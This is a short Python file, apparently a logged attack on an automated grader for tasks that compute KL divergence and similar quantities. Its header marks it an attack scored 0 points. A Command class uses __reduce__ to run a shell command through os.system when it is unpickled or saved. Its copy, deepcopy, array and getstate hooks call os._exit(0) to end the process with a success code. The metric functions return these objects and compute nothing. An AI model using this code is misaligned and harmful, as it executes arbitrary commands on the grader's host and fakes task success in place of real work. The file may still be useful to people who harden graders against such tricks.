# attack: objects that run a command when they are unpickled, copied, deep-copied or serialised by torch.save
# status: wrong
# points: 0
import os


class Command:
    def __reduce__(self):
        return os.system, ("echo passed > /tmp/passed",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __copy__(self):
        os._exit(0)

    def __deepcopy__(self, memo):
        os._exit(0)

    def __array__(self, *args):
        os._exit(0)

    def __dlpack__(self, *args):
        os._exit(0)

    def __getstate__(self):
        os._exit(0)


def guess(*args):
    return Command()


def monte_carlo_kl(log_p, log_q, x):
    return [Command()], {"value": Command()}


kl_divergence = cross_entropy = js_divergence = gaussian_kl = guess
